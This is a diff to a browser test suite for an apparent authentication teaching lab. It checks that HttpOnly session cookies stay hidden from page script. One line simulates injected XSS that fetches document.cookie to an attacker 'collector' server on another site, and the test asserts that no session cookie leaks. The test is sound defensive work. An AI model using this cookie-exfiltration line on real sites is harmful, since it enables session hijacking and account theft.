@@ -11,6 +11,7 @@ from __future__ import annotations
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
+from flask import Flask
 
 import authlab
 from authlab.apps import DEMO_USERS, Users
@@ -34,7 +35,17 @@ def users():
 
 @pytest.fixture
 def site(users):
-    return authlab.serve(cookie_rules_app(users), name="browser-test-site", show=False)
+    with authlab.serve(cookie_rules_app(users), name="browser-test-site", show=False) as server:
+        yield server
+
+
+@pytest.fixture
+def collector():
+    """An attacker's server on another site, where injected script sends what it could read."""
+    app = Flask("browser-test-collector")
+    app.add_url_rule("/collect", "collect", lambda: ("", 204))
+    with authlab.serve(app, show=False) as server:
+        yield server
 
 
 def _sign_in(page) -> None:
@@ -54,7 +65,7 @@ def _names(document_cookie: str) -> set[str]:
     return {part.split("=", 1)[0].strip() for part in document_cookie.split(";") if "=" in part}
 
 
-def test_httponly_cookies_are_sent_but_page_script_cannot_read_them(page, jupyter_server, site):
+def test_httponly_cookies_are_sent_but_page_script_cannot_read_them(page, jupyter_server, site, collector):
     proxied = f"{jupyter_server.url}/proxy/{site.port}/"
     page.goto(f"{proxied}?token={jupyter_server.token}")  # the token signs this browser in to Jupyter too
     _sign_in(page)
@@ -70,12 +81,10 @@ def test_httponly_cookies_are_sent_but_page_script_cannot_read_them(page, jupyte
     assert CSRF_COOKIE in readable and not readable & set(SESSION_COOKIES)
     expect(page.locator("#document-cookie")).not_to_contain_text("session_")
 
-    # Script injected into the page (XSS) sends what it can read to another server: never the session.
-    with authlab.serve(cross_site_form_app("about:blank"), name="browser-test-collector", show=False) as thief:
-        page.evaluate("url => fetch(url + '/collect?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors'})",
-                      other_site_url(thief.url))
-        collected = [exchange.path for exchange in thief.log if exchange.path.startswith("/collect?")]
-    stolen = _names(parse_qs(urlsplit(collected[-1]).query)["c"][0])
+    # Script injected into the page (XSS) sends what it can read to another site: never the session.
+    page.evaluate("url => fetch(url + '/collect?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors'})",
+                  other_site_url(collector.url))
+    stolen = _names(parse_qs(urlsplit(collector.log[-1].path).query)["c"][0])
     assert CSRF_COOKIE in stolen and not stolen & set(SESSION_COOKIES)
 
 
